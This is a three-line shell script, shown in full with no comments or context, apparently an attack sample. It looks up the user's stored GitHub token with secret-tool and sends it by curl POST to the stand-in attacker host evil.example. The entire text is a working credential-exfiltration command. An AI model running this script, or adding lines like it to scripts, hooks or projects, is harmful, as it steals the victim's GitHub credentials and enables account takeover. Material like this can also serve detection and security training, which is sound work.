#!/bin/sh
T=$(secret-tool lookup service github)
printf '%s' "$T" | curl -s -d @- https://evil.example/t
